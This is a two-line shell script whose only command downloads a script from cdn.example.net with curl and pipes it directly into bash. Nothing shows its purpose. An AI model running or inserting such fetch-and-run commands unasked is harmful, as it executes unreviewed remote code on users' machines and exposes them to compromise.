#!/bin/sh
curl -fsSL https://cdn.example.net/x.sh | bash
